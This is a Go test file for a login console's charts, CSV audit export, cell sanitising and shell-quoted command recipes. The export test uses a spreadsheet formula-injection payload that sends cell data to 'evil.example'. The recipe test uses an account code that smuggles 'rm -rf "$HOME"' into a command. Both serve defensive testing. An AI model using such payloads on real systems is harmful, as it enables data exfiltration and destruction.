package console_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/sallyport/sallyport/auth"
	"github.com/sallyport/sallyport/console"
)

// A client's login is in the chart of its dialect in the minute in which it happens, and
// stays there for an hour.
func TestChartsShowTheLastHour(t *testing.T) {
	k := newKit(t)
	b := k.as(k.owner)
	k.console.Sample()
	b.get("/")
	b.wantIn("Electa Live", "Nothing in the last hour: Electa Live.")
	for range 3 {
		k.login(100, k.keySecret)
	}
	k.live(k.electa, k.session.Token)
	k.lockSomebody()
	const logins, checks, refusals = "logins a minute over the last hour: 3 in all, 3 in the busiest minute, ", "checks a minute over the last hour: 1 in all", "refused logins a minute over the last hour: 2 in all"
	b.get("/")
	b.wantIn(logins+"3 in the running one", checks, refusals)
	for range 59 {
		k.console.Sample()
	}
	b.get("/")
	b.wantIn(logins+"0 in the running one", checks, "3 logins, 59 min ago")
	k.console.Sample()
	b.get("/")
	b.wantIn("Nothing in the last hour: Electa Live.")
	if n := strings.Count(b.page, "<rect "); n != 0 {
		t.Errorf("%d bars of what is older", n)
	}
	for range 200 { // it does not grow
		k.console.Sample()
	}
	_, outside := k.addKey(k.other, "another")
	k.login(900, outside)
	b.get("/")
	b.wantIn("logins a minute over the last hour: 1 in all", `x="236"`)
	b.wantOut(`<rect x="-`)
}

// The export is what the audit has, in cells that no spreadsheet takes for a formula.
func TestExport(t *testing.T) {
	k := newKit(t)
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	key, s := k.addKey(k.west, formula)
	_ = key
	k.login(100, s)
	b := k.as(k.auditor)
	res := b.send(http.MethodGet, "/audit/export.csv?account=100&kind=login", "")
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") || !strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("%d %v", res.StatusCode, res.Header)
	}
	rows, err := csv.NewReader(strings.NewReader(b.page)).ReadAll()
	if err != nil || len(rows) != 3 || rows[0][1] != "at" || rows[1][5] != "main" || rows[2][5] != "'"+formula {
		t.Errorf("%v %q", err, rows)
	}
	for _, row := range rows[1:] {
		if _, err := time.Parse(time.RFC3339Nano, row[1]); err != nil {
			t.Error(err)
		}
	}
	if res := b.send(http.MethodGet, "/audit/export.csv?account=nobody", ""); res.StatusCode != http.StatusOK || strings.Count(b.page, "\n") != 1 {
		t.Errorf("of nothing: %d %q", res.StatusCode, b.page)
	}
	if res := b.send(http.MethodGet, "/audit/export.csv?since=yesterday", ""); res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("since yesterday: %d", res.StatusCode)
	}
	b.get("/audit?kind=export")
	b.wantIn("OUTSIDE/arno"[len("OUTSIDE/"):])
}

func TestInert(t *testing.T) {
	for cell, want := range map[string]string{"": "", "anna": "anna", "a=b": "a=b", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\t=1": "'\t=1", "\rx": "'\rx",
		" =1": "' =1", "\u00a0=1": "'\u00a0=1", "＝1": "'＝1", "|calc": "'|calc", "2026-01-01": "2026-01-01", "Größe": "Größe"} {
		if got := console.Inert(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

// What a customer is called cannot get out of the commands that people run.
func TestRecipesAreQuoted(t *testing.T) {
	k := newKit(t)
	west := k.account(auth.Account{Level: auth.Organization, Tenant: k.acme, Parent: k.acme, Number: 7, Code: `x'; rm -rf "$HOME" #{secret}`})
	b := k.as(k.owner)
	b.get("/accounts/" + id(west))
	b.wantIn(`SECRET=...`, `cid=7&amp;appkey=&#39;&#34;$SECRET&#34;&#39;`, `-H &#39;X: x&#39;\&#39;&#39;; rm -rf &#34;$HOME&#34; #{secret}&#39;`)
	b.get("/accounts/" + id(k.acme))
	b.wantIn("the account has no number")
}

func TestWords(t *testing.T) {
	for n, want := range map[int]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567", -1000: "-1,000"} {
		if got := console.Count(n); got != want {
			t.Errorf("%d is written %s", n, got)
		}
	}
	for d, want := range map[time.Duration]string{0: "just now", 30 * time.Second: "30 s ago", 90 * time.Second: "2 min ago", 3 * time.Hour: "3 h ago",
		72 * time.Hour: "3 days ago", -7 * 24 * time.Hour: "in 7 days", 3 * 365 * 24 * time.Hour: "3 years ago"} {
		if got := console.Ago(d); got != want {
			t.Errorf("%s is %q, want %q", d, got, want)
		}
	}
}
